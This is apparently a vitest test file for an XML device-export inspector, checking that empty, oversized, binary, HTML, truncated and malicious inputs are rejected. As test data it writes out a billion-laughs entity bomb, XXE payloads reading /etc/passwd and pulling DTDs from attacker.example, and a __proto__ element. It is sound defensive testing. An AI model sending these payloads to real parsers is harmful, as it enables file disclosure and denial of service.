/**
 * Every kind of wrong file gets one specific problem code, ok=false, and an answer fast: all
 * limits are enforced before or during parsing.
 */
import { describe, expect, it } from 'vitest';
import { inspectExport, rejectOversize, XML_LIMITS } from '../../../../shared/xml/index';
import type { ExportInspection, ExportProblemCode } from '../../../../shared/xml/index';
import { fixture, utf8 } from './fixtures';

function rejected(i: ExportInspection, code: ExportProblemCode) {
  expect(i.ok).toBe(false);
  expect(i.problems.map((p) => p.code)).toContain(code);
  const p = i.problems.find((x) => x.code === code)!;
  expect(p.severity).toBe('error');
  expect(p.message.length).toBeGreaterThan(20);
  expect(i).toMatchObject({ serial: null, mac: null, model: null, findings: [] });
  return p;
}

function timed<T>(fn: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = fn();
  return { value, ms: performance.now() - start };
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Device><SerialNo>&lol9;</SerialNo></Device>`;

describe('inspectExport: bad input', () => {
  it('empty: zero bytes, and only blank space', () => {
    expect(rejected(inspectExport(new Uint8Array(0)), 'empty').message).toContain('0 bytes');
    expect(inspectExport(new Uint8Array(0)).sizeBytes).toBe(0);
    rejected(inspectExport(utf8(' \r\n\t\n')), 'empty');
  });

  it('entity bomb (billion laughs): refused before parsing, instantly', () => {
    const { value, ms } = timed(() => inspectExport(utf8(BILLION_LAUGHS)));
    expect(rejected(value, 'entity-declaration').message).toMatch(/entity bomb/i);
    expect(ms).toBeLessThan(200);
  });

  it('a single harmless-looking internal entity is refused too', () => {
    rejected(
      inspectExport(utf8('<!DOCTYPE r [<!ENTITY sn "7K03B21PAZ4C9D1">]><r><SN>&sn;</SN></r>')),
      'entity-declaration',
    );
  });

  it('external entities and external DTDs (XXE)', () => {
    const cases = [
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><SN>&x;</SN></r>',
      '<!DOCTYPE r [<!ENTITY % p PUBLIC "-//X//EN" "http://attacker.example/x.dtd"> %p;]><r/>',
      '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>',
      '<!DOCTYPE r PUBLIC "-//X//DTD R//EN" "r.dtd"><r/>',
    ];
    for (const xml of cases)
      expect(rejected(inspectExport(utf8(xml)), 'external-entity').message).toMatch(/SYSTEM or PUBLIC/);
  });

  it('a plain DOCTYPE without entities is accepted', () => {
    const i = inspectExport(
      utf8('<!DOCTYPE Reset [<!ELEMENT Reset ANY>]><Reset><SN>7K03B21PAZ4C9D1</SN></Reset>'),
    );
    expect(i).toMatchObject({ ok: true, serial: '7K03B21PAZ4C9D1' });
  });

  it('entity references without declarations are never expanded', () => {
    const i = inspectExport(
      utf8('<r><DeviceName>&custom; &#65;&#x42; &lt;x&gt;</DeviceName><SN>7K03B21PAZ4C9D1</SN></r>'),
    );
    expect(i.deviceName).toBe('&custom; AB <x>');
  });

  it('10 000 levels of nesting: too-deep, found by the pre-scan in milliseconds', () => {
    const xml = `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`;
    const { value, ms } = timed(() => inspectExport(utf8(xml)));
    expect(rejected(value, 'too-deep').message).toContain(`${XML_LIMITS.maxDepth} levels`);
    expect(ms).toBeLessThan(500);
  });

  it('nesting at the limit is fine', () => {
    const depth = XML_LIMITS.maxDepth;
    const xml = `${'<a>'.repeat(depth - 1)}<SN>7K03B21PAZ4C9D1</SN>${'</a>'.repeat(depth - 1)}`;
    expect(inspectExport(utf8(xml))).toMatchObject({ ok: true, serial: '7K03B21PAZ4C9D1' });
  });

  it('too many elements', () => {
    const xml = `<r>${'<i/>'.repeat(XML_LIMITS.maxElements + 10)}</r>`;
    rejected(inspectExport(utf8(xml)), 'too-many-nodes');
  });

  it('a 6 MB file: too-large, without decoding it', () => {
    const bytes = new Uint8Array(6 * 1024 * 1024).fill(0x20);
    bytes.set(utf8('<r>'), 0);
    const { value, ms } = timed(() => inspectExport(bytes));
    expect(rejected(value, 'too-large').message).toContain('6.0 MB');
    expect(value.sizeBytes).toBe(6 * 1024 * 1024);
    expect(ms).toBeLessThan(50);
  });

  it('rejectOversize gives the same answer from a size alone', () => {
    const i = rejectOversize(7_000_000);
    expect(i).toMatchObject({
      ok: false,
      sizeBytes: 7_000_000,
      problems: [{ code: 'too-large', severity: 'error' }],
    });
  });

  it('just under the size limit, a pathological file still answers quickly', () => {
    // One enormous attribute value with no closing quote: the worst case for a tag scanner.
    const bytes = new Uint8Array(XML_LIMITS.maxBytes - 16).fill(0x61);
    bytes.set(utf8('<r a="'), 0);
    const { value, ms } = timed(() => inspectExport(bytes));
    rejected(value, 'truncated');
    expect(ms).toBeLessThan(3000);
  });

  it('PNG, ZIP and Outlook .msg bytes are named', () => {
    const png = Uint8Array.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 1, 0,
    ]);
    expect(rejected(inspectExport(png), 'binary').message).toContain('PNG image');
    const zip = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]);
    expect(rejected(inspectExport(zip), 'binary').message).toContain('unzip it');
    const msg = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    expect(rejected(inspectExport(msg), 'binary').message).toContain('Outlook message');
  });

  it('unknown binary data with NUL bytes', () => {
    const bytes = Uint8Array.from({ length: 256 }, (_, i) => (i * 37) % 256);
    rejected(inspectExport(bytes), 'binary');
  });

  it('an HTML page saved as .xml', () => {
    const page = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>WEB SERVICE</title></head>
<body><div id="login"><input type="text"><br></div></body></html>`;
    expect(rejected(inspectExport(utf8(page)), 'html').message).toContain('web page');
    const saved = '<!-- saved from url=(0026)http://192.168.1.108/ -->\n<HTML><BODY>x</BODY></HTML>';
    rejected(inspectExport(utf8(saved)), 'html');
    const xhtml = '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>';
    rejected(inspectExport(utf8(xhtml)), 'html');
    // A PUBLIC doctype on a web page is still reported as a web page, not as an external entity.
    const html4 =
      '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">\n<HTML><BODY>x</BODY></HTML>';
    expect(inspectExport(utf8(html4)).problems.map((p) => p.code)).toEqual(['html']);
  });

  it('not XML: plain text, JSON, a saved e-mail', () => {
    expect(rejected(inspectExport(utf8('Serial: 7K03B21PAZ4C9D1')), 'not-xml').message).toContain(
      'plain text',
    );
    expect(rejected(inspectExport(utf8('{"serial":"7K03B21PAZ4C9D1"}')), 'not-xml').message).toContain(
      'JSON',
    );
    const eml = 'From: support@example.com\r\nSubject: reset\r\n\r\nhello';
    expect(rejected(inspectExport(utf8(eml)), 'not-xml').message).toContain('save the XML attachment');
  });

  it('XML that is not well-formed: not-xml with the position', () => {
    const p = rejected(inspectExport(utf8('<r>\n<SN>7K03B21PAZ4C9D1</Serial>\n</r>')), 'not-xml');
    expect(p.message).toMatch(/line 2/);
  });

  it('truncated: a real-looking export cut in half', () => {
    const whole = fixture('flat-elements.xml');
    const cut = whole.subarray(0, Math.floor(whole.length / 2));
    const p = rejected(inspectExport(cut), 'truncated');
    expect(p.message).toContain('cut off');
  });

  it('truncated: inside a tag, a comment, an attribute, and before the root closes', () => {
    const cases: [string, RegExp][] = [
      ['<r><SN>7K03B21PAZ4C9D1</SN><MA', /inside the tag <MA>/],
      ['<r><!-- export', /inside a comment/],
      ['<r><Device sn="7K03', /inside the tag <Device>/],
      ['<r><Device><SN>7K03B21PAZ4C9D1</SN>', /before <Device>, <r> are closed/],
      ['<r><SN>7K03B21PAZ4C9D1</SN></r', /inside the closing tag of <r>/],
      ['<r><D><![CDATA[abc', /inside a CDATA section/],
    ];
    for (const [xml, message] of cases)
      expect(rejected(inspectExport(utf8(xml)), 'truncated').message).toMatch(message);
  });

  it('an element named like a JavaScript internal is refused, not crashed on', () => {
    const i = inspectExport(utf8('<r><__proto__>x</__proto__><constructor/></r>'));
    expect(i.ok).toBe(false);
    expect(i.problems[0]!.code).toBe('not-xml');
  });
});
